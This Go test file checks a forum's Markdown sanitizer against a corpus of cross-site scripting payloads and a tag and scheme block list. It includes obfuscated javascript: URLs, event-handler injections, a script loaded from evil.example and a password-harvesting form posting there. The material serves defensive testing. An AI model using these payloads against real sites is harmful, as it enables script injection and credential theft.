package forum

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/switchboard-rtm/switchboard/content"
)

// unsafeHTML returns a description of the first unsafe construct in h, or
// "": a script-capable or embedding element, an event-handler or style
// attribute, or a javascript:, vbscript: or data: URL in any attribute.
// It reads h with an HTML tokenizer, as a browser would, so escaped text
// such as "&lt;img onerror=...&gt;" inside <code> is not a false alarm.
func unsafeHTML(h string) string {
	z := html.NewTokenizer(strings.NewReader(h))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "iframe", "object", "embed", "svg", "math", "style", "form", "input", "button",
				"base", "meta", "link", "frame", "frameset", "applet", "textarea", "select":
				return "<" + tok.Data + ">"
			}
			for _, a := range tok.Attr {
				key := strings.ToLower(a.Key)
				if strings.HasPrefix(key, "on") || key == "style" || key == "srcdoc" || key == "formaction" {
					return key + "=" + a.Val
				}
				v := strings.Map(func(r rune) rune {
					if r <= ' ' || r == 0x7f {
						return -1
					}
					return r
				}, strings.ToLower(a.Val))
				for _, scheme := range []string{"javascript:", "vbscript:", "data:"} {
					if strings.HasPrefix(v, scheme) {
						return key + "=" + a.Val
					}
				}
			}
		}
	}
}

var xssCorpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" ONERROR="alert(1)">`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="java\0script:alert(1)">x</a>`,
	`[link](javascript:alert(1))`,
	`[link](JAVASCRIPT:alert(1))`,
	`[link](javascript&#58;alert(1))`,
	`[link](&#x6A;avascript:alert(1))`,
	`![img](javascript:alert(1))`,
	`<javascript:alert(1)>`,
	`[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
	`![x](data:image/png;base64,iVBORw0KGgo=)`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>`,
	`<form action="https://evil.example"><input name=password type=password></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<a href="https://ok.example" onclick="alert(1)">ok</a>`,
	`<span class="chroma" onmouseover="alert(1)">x</span>`,
	"```html\n<script>alert(1)</script>\n```",
	"`<img src=x onerror=alert(1)>`",
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1)//<</script>`,
	`<img src="x` + "\n" + `" onerror="alert(1)">`,
	`<a href="https://ok.example" target="_blank">x</a>`,
	`<div class="navbar">fake UI</div>`,
}

func TestSanitizerXSSCorpus(t *testing.T) {
	f := newFixture(t)
	for _, src := range xssCorpus {
		out, err := f.s.RenderPreview(src)
		if err != nil {
			t.Errorf("%q: %v", src, err)
			continue
		}
		if m := unsafeHTML(out); m != "" {
			t.Errorf("%q\nrendered %q\nkeeps %q", src, out, m)
		}
		if strings.Contains(out, "navbar") {
			t.Errorf("%q: arbitrary class survived: %q", src, out)
		}
	}
}

func TestSanitizerKeepsMarkdown(t *testing.T) {
	f := newFixture(t)
	src := "# 标题\n\n**bold** [docs](https://switchboard.example/docs) and `code`\n\n" +
		"```go\nfunc main() { fmt.Println(\"频道\") }\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n"
	out, err := f.s.RenderPreview(src)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"<strong>bold</strong>",
		`<a href="https://switchboard.example/docs" rel="nofollow noreferrer">docs</a>`,
		"<code>code</code>",
		`<pre class="chroma"><code>`, // chroma's classes survive
		`<span class="kd">func</span>`,
		"<table>", "<td>1</td>",
		"频道",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("rendered HTML lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "<input") {
		t.Errorf("task-list checkbox survived: %s", out)
	}
}

// FuzzMarkdownToSafeHTML renders arbitrary Markdown (raw HTML included)
// and checks that nothing executable survives the sanitizer.
func FuzzMarkdownToSafeHTML(f *testing.F) {
	for _, s := range xssCorpus {
		f.Add(s)
	}
	f.Add("[x](java\tscript:alert(1))")
	f.Add("<a href='&#x6a;avascript:alert(1)'>x</a>")
	fx := newFixture(f)
	f.Fuzz(func(t *testing.T, src string) {
		out, err := fx.s.RenderPreview(src)
		if err != nil {
			wantErr(t, err, ErrInvalid)
			return
		}
		if m := unsafeHTML(out); m != "" {
			t.Fatalf("%q\nrendered %q\nkeeps %q", src, out, m)
		}
	})
}

// TestUnsafeHTMLDetector proves the checker above would notice the
// corpus if the sanitizer let it through.
func TestUnsafeHTMLDetector(t *testing.T) {
	for _, h := range []string{`<script>x</script>`, `<img src=x onerror=alert(1)>`, `<a href=" jav&#x09;ascript:alert(1)">`,
		`<a href="DATA:text/html,x">`, `<p style="x">`, `<svg/onload=alert(1)>`} {
		if unsafeHTML(h) == "" {
			t.Errorf("detector misses %q", h)
		}
	}
	if got := unsafeHTML(`<p><code>&lt;img onerror=alert(1)&gt;</code> <a href="https://x.example">x</a></p>`); got != "" {
		t.Errorf("false alarm %q", got)
	}
}

// TestWithPostRenderer runs the real pipeline: the docs' Markdown dialect
// for untrusted posts (content.NewPostRenderer), then the forum sanitizer.
// Highlighting and alerts survive; raw HTML and scripts do not.
func TestWithPostRenderer(t *testing.T) {
	f := newFixtureConfig(t, Config{Renderer: content.NewPostRenderer(nil)})
	out, err := f.s.RenderPreview("> [!NOTE]\n> 注意\n\n```go\nfunc main() {}\n```\n\n<script>alert(1)</script> [x](javascript:alert(1))")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`<div class="alert alert-note" role="note">`, `<pre class="chroma"><code class="language-go"><span class="kd">func</span>`, `data-lang="go"`} {
		if !strings.Contains(out, want) {
			t.Errorf("lacks %q:\n%s", want, out)
		}
	}
	if m := unsafeHTML(out); m != "" {
		t.Errorf("keeps %q:\n%s", m, out)
	}
}
